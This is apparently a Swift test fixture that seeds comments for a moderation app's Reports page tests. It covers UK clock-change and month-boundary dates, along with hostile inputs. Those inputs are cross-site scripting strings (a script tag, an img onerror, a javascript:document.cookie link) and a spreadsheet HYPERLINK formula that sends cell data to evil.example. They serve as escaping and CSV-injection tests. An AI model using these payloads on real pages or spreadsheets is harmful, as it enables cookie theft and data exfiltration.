import DecorumCore
import DecorumStore
import Foundation

/// The comments the Reports page tests seed: around the spring clock change (29 March 2026, 01:00 UTC) and the
/// month's ends, hostile text on items people overrode, and cells a spreadsheet would run as formulas. Each says
/// by hand which UK week, day and month it belongs to.
enum ReportSeeds {
    static let spring: [ReportSeed] = [
        // 23:30 GMT on Saturday 28 February: February's, though it is 1 March in UTC+1.
        ReportSeed(id: "feb-last", arrived: "2026-02-28T23:30:00Z", decision: .allow,
                   week: "–", day: "Sat 28 Feb 2026", month: "February 2026"),
        ReportSeed(id: "mar-first", arrived: "2026-03-01T00:30:00Z", decision: .delete, categories: [.abusive], done: (.delete, 2),
                   week: "1 Mar 2026", day: "Sun 1 Mar 2026", month: "March 2026"),
        ReportSeed(id: "abuse-1", arrived: "2026-03-10T09:00:00Z", decision: .delete, categories: [.abusive], done: (.delete, 3),
                   week: "9–15 Mar 2026", day: "Tue 10 Mar 2026", month: "March 2026"),
        ReportSeed(id: "pii-1", arrived: "2026-03-11T14:00:00Z", decision: .hide, categories: [.thirdPartyPII, .safeguarding],
                   done: (.hide, 9), person: .approved, week: "9–15 Mar 2026", day: "Wed 11 Mar 2026", month: "March 2026"),
        ReportSeed(id: "complaint-1", arrived: "2026-03-12T08:00:00Z", decision: .review, categories: [.complaint], person: .chose(.privateReply),
                   week: "9–15 Mar 2026", day: "Thu 12 Mar 2026", month: "March 2026"),
        // Hostile text, each overridden by a person so the page lists it.
        ReportSeed(id: "hostile-script", arrived: "2026-03-17T10:00:00Z",
                   text: "Your doctors are useless <script>alert('pwned')</script> idiots",
                   decision: .hide, categories: [.abusive], done: (.hide, 4), person: .overrode,
                   week: "16–22 Mar 2026", day: "Tue 17 Mar 2026", month: "March 2026"),
        ReportSeed(id: "hostile-attr", arrived: "2026-03-18T10:00:00Z",
                   text: #"Absolute scum "><img src=x onerror=alert(1)> the lot of you"#,
                   decision: .allow, person: .chose(.delete),
                   week: "16–22 Mar 2026", day: "Wed 18 Mar 2026", month: "March 2026"),
        ReportSeed(id: "hostile-bidi", arrived: "2026-03-19T10:00:00Z",
                   text: "Dr Khan was drunk \u{202E}gnirts neddih\u{202C} see javascript:alert(document.cookie)",
                   decision: .hide, categories: [.defamation, .staffIdentification], done: (.hide, 6), person: .overrode,
                   week: "16–22 Mar 2026", day: "Thu 19 Mar 2026", month: "March 2026"),
        ReportSeed(id: "@SUM(A1:A9)", arrived: "2026-03-20T10:00:00Z", text: #"=HYPERLINK("http://evil.example/?"&A1,"Click for results")"#,
                   decision: .delete, categories: [.fraud], done: (.delete, 1),
                   week: "16–22 Mar 2026", day: "Fri 20 Mar 2026", month: "March 2026"),
        ReportSeed(id: "formula-plus", arrived: "2026-03-21T10:00:00Z", text: "+44 7700 900123 ring me", decision: .hide, categories: [.ownPII],
                   done: (.hide, 5), week: "16–22 Mar 2026", day: "Sat 21 Mar 2026", month: "March 2026"),
        ReportSeed(id: "formula-minus", arrived: "2026-03-22T10:00:00Z", text: "-1 stars, rude receptionist", decision: .allow,
                   categories: [.review], week: "16–22 Mar 2026", day: "Sun 22 Mar 2026", month: "March 2026"),
        // The clock change: 00:30 GMT and 02:30 BST are both Sunday 29 March; 23:30 UTC that night is 00:30 BST on Monday.
        ReportSeed(id: "sun-gmt", arrived: "2026-03-29T00:30:00Z", decision: .hide, categories: [.thirdPartyPII], done: (.hide, 5),
                   week: "23–29 Mar 2026", day: "Sun 29 Mar 2026", month: "March 2026"),
        ReportSeed(id: "sun-bst", arrived: "2026-03-29T01:30:00Z", text: "@everyone look at this", decision: .delete, categories: [.fraud],
                   done: (.delete, 7), week: "23–29 Mar 2026", day: "Sun 29 Mar 2026", month: "March 2026"),
        ReportSeed(id: "mon-bst", arrived: "2026-03-29T23:30:00Z", decision: .delete, categories: [.abusive], done: (.delete, 11),
                   week: "30–31 Mar 2026", day: "Mon 30 Mar 2026", month: "March 2026"),
        ReportSeed(id: "mar-last", arrived: "2026-03-31T22:30:00Z", decision: .allow, person: .chose(.hide),
                   week: "30–31 Mar 2026", day: "Tue 31 Mar 2026", month: "March 2026"),
        // 23:30 UTC on 31 March is 00:30 BST on 1 April: April's.
        ReportSeed(id: "apr-first", arrived: "2026-03-31T23:30:00Z", decision: .delete, categories: [.abusive], done: (.delete, 1),
                   week: "–", day: "Wed 1 Apr 2026", month: "April 2026"),
    ]

    /// The autumn change (25 October 2026, 01:00 UTC): 00:30 UTC is 01:30 BST and 23:30 UTC is 23:30 GMT, both Sunday.
    static let autumn: [ReportSeed] = [
        ReportSeed(id: "oct-sun-bst", arrived: "2026-10-25T00:30:00Z", decision: .allow,
                   week: "19–25 Oct 2026", day: "Sun 25 Oct 2026", month: "October 2026"),
        ReportSeed(id: "oct-sun-gmt", arrived: "2026-10-25T23:30:00Z", decision: .hide, categories: [.staffIdentification], done: (.hide, 3),
                   week: "19–25 Oct 2026", day: "Sun 25 Oct 2026", month: "October 2026"),
        ReportSeed(id: "oct-mon", arrived: "2026-10-26T00:30:00Z", decision: .allow,
                   week: "26–31 Oct 2026", day: "Mon 26 Oct 2026", month: "October 2026"),
    ]

    static let all = spring + autumn

    /// The instant the tests read the reports at: Monday 2 November 2026, 10:00 GMT.
    static let now = ReportFixtures.utc("2026-11-02T10:00:00Z")

    /// The comments whose words a spreadsheet would take for a formula.
    static var formulas: [ReportSeed] {
        spring.filter { ["=", "+", "-", "@"].contains($0.text.first.map(String.init) ?? "") }
    }
}

extension ReportSeed {
    /// From arrival to the first action done: Decorum's, or else the person's own (chosen a minute after arrival).
    var expectedTimeToAction: Double? {
        if let done { return done.after }
        if case .chose? = person { return 60 }
        return nil
    }
}
